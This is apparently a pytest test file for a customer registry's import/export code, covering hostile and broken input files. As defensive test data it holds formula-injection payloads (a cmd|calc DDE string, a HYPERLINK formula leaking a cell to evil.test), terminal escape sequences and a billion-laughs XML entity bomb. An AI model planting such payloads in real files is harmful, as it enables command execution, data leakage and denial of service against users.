"""Registry import/export against hostile or broken files (issue 13 item 7, review D4, D16, D17)."""
from __future__ import annotations

import argparse
import csv
import io
import zipfile
from dataclasses import replace
from pathlib import Path

import pytest
from sqlalchemy import select

from mailrouter.registry.cli import add_registry_parser
from mailrouter.registry.importer import ImportFailed, export_csv, neutralise_cell
from mailrouter.registry.models import CustomerRow
from mailrouter.registry.tabular import read_rows
from tests.factories import example_config
from tests.test_registry_import import counts, run_import, session, write  # noqa: F401 (fixture)

ESC_NAME = "\x1b]0;PWNED\x07\x1b[31mRed Name\x1b[0m"


@pytest.mark.parametrize("cell, expected", [
    ('=HYPERLINK("http://evil.test/?"&A1,"Click")', '\'=HYPERLINK("http://evil.test/?"&A1,"Click")'),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("-2+3", "'-2+3"),
    ("\t=1+2", "'\t=1+2"),
    ("\r=1+2", "'\r=1+2"),
    ("+34 600 123 456", "'+34 600 123 456"),
    ("+1-555-0100", "'+1-555-0100"),
    ("Acme GmbH", "Acme GmbH"),
    ("", ""),
])
def test_export_cells_starting_a_formula_get_an_apostrophe(cell: str, expected: str) -> None:
    assert neutralise_cell(cell) == expected


def test_export_of_a_formula_company_reads_back_as_text(session, tmp_path) -> None:
    path = write(tmp_path, "f.csv", "email,company,name,phone,country\n"
                 'f2@formula2.test,"=cmd|\' /C calc\'!A0","=HYPERLINK(""http://evil.test/?""&A1,""Click"")",'
                 "+34 600 123 456,ES\n")
    assert counts(run_import(session, path, source="=1+2")) == (1, 0, 0, 0, 0)
    out = io.StringIO()
    export_csv(session, out)
    (header, row), = [tuple(csv.reader(io.StringIO(out.getvalue())))]
    exported = dict(zip(header, row))
    assert not any(v.startswith(("=", "+", "-", "@")) for v in row)
    assert exported["Company"] == "'=cmd|' /C calc'!A0" and exported["Source"] == "'=1+2"
    # the phone stays re-importable: the importer drops the apostrophe it added
    assert exported["Phone"] == "'+34600123456"
    again = tmp_path / "again.csv"
    again.write_text(out.getvalue(), encoding="utf-8")
    assert counts(run_import(session, again)) == (0, 0, 1, 0, 0)
    stored = session.scalars(select(CustomerRow)).one()
    assert stored.company == "=cmd|' /C calc'!A0"  # stored as the buyer wrote it


def _cli(tmp_path: Path):
    config = replace(example_config(), database=f"sqlite:///{tmp_path / 'cli.db'}")
    parser = argparse.ArgumentParser()
    add_registry_parser(parser.add_subparsers())

    def run(*argv: str) -> int:
        args = parser.parse_args(["registry", *argv])
        return args.handler(args, config)
    return run


def test_terminal_output_has_no_control_characters(tmp_path, capsys) -> None:
    run = _cli(tmp_path)
    path = write(tmp_path, "esc.csv", "name,company,email\n"
                 f"{ESC_NAME},Esc \x1b[2J Co,esc@esc.test\n"
                 f"Bad,x,bad\x1b[2J@@\n")
    assert run("import", str(path), "--source", "fair\x1b[2J") == 0
    assert run("show", "esc@esc.test") == 0
    assert run("export") == 0
    out, err = capsys.readouterr()
    assert "\x1b" not in out + err and "\x07" not in out + err
    assert "Red Name" in out and "Esc Co" in out


def test_a_200_kb_cell_is_a_row_error_not_a_traceback(session, tmp_path) -> None:
    path = write(tmp_path, "big.csv", "email,company\n"
                 f"a@alpha.test,{'x' * 200_000}\nb@beta.test,Beta Ltd\n")
    result = run_import(session, path)
    assert counts(result) == (1, 0, 0, 0, 1)
    bad, = result.invalid
    assert (bad.line, bad.column) == (2, "company")
    assert "200000 characters" in bad.reason and "at most 300" in bad.reason


def test_unclosed_quote_swallowing_the_file_is_refused_with_its_line(session, tmp_path) -> None:
    path = write(tmp_path, "q.csv", "email,company\na@alpha.test,\"Alpha\n" + "x" * 1_100_000 + "\n")
    with pytest.raises(ImportFailed, match=r"line 2: .*cell longer than"):
        run_import(session, path)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "gbk",
                                      "gb18030"])
def test_encodings_detected(session, tmp_path, encoding: str) -> None:
    text = "姓名,公司,邮箱\n张三,深圳市某某科技有限公司,zhang@mou.cn\n"
    path = write(tmp_path, "enc.csv", text, encoding)
    assert counts(run_import(session, path)) == (1, 0, 0, 0, 0)
    assert session.scalars(select(CustomerRow.company)).one() == "深圳市某某科技有限公司"


def test_gbk_after_an_ascii_start_is_still_gbk(session, tmp_path) -> None:
    """Encoding is decided on the whole file, not on a first block that happens to be ASCII."""
    rows = "".join(f"p@ascii{i}.test,Plain {i}\n" for i in range(3000))
    path = write(tmp_path, "late.csv", "email,company\n" + rows + "li@mou.cn,某某科技\n", "gbk")
    assert counts(run_import(session, path)) == (3001, 0, 0, 0, 0)
    assert "某某科技" in session.scalars(select(CustomerRow.company)).all()


def test_binary_file_refused_with_a_reason(session, tmp_path) -> None:
    path = tmp_path / "x.csv"
    path.write_bytes(bytes(range(256)) * 40)
    with pytest.raises(ImportFailed, match="not a text CSV"):
        run_import(session, path)


def _zip(path: Path, members: dict[str, str]) -> Path:
    with zipfile.ZipFile(path, "w") as z:
        for name, text in members.items():
            z.writestr(name, text)
    return path


def _broken_sheet(path: Path, sheet_xml: str) -> Path:
    """A workbook Excel wrote, with its sheet's XML replaced."""
    from openpyxl import Workbook

    book = Workbook()
    book.active.append(["Email", "Company"])
    book.save(path.with_suffix(".good.xlsx"))
    with zipfile.ZipFile(path.with_suffix(".good.xlsx")) as good, zipfile.ZipFile(path, "w") as bad:
        for item in good.infolist():
            data = sheet_xml.encode() if item.filename == "xl/worksheets/sheet1.xml" else good.read(item)
            bad.writestr(item, data)
    return path


LAUGHS = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
          + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
                    for i in range(1, 10))
          + ']><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row>'
            '</sheetData></worksheet>')


@pytest.mark.parametrize("make", [
    lambda p: _broken_sheet(p, "<worksheet><sheetData><row>"),
    lambda p: _broken_sheet(p, LAUGHS),
    lambda p: (p.write_bytes(b"this is not a zip"), p)[1],
    lambda p: _zip(p, {"hello.txt": "no workbook here"}),
    lambda p: (p.write_bytes(b"PK\x03\x04" + b"\0" * 100), p)[1],
])
def test_bad_xlsx_is_a_clear_error(session, tmp_path, make) -> None:
    path = make(tmp_path / "bad.xlsx")
    with pytest.raises(ImportFailed, match=r"bad\.xlsx: not a readable \.xlsx workbook"):
        run_import(session, path)


def test_bad_xlsx_via_cli_exits_1_without_traceback(tmp_path, capsys) -> None:
    run = _cli(tmp_path)
    path = _zip(tmp_path / "bad.xlsx", {"hello.txt": "x"})
    assert run("import", str(path), "--source", "x") == 1
    err = capsys.readouterr().err
    assert "not a readable .xlsx workbook" in err and "Traceback" not in err


def test_rows_are_read_lazily(tmp_path) -> None:
    path = write(tmp_path, "l.csv", "email\n" + "a@b.test\n" * 10)
    rows = read_rows(path)
    assert not isinstance(rows, list)
    assert next(iter(rows)) == (1, ["email"])
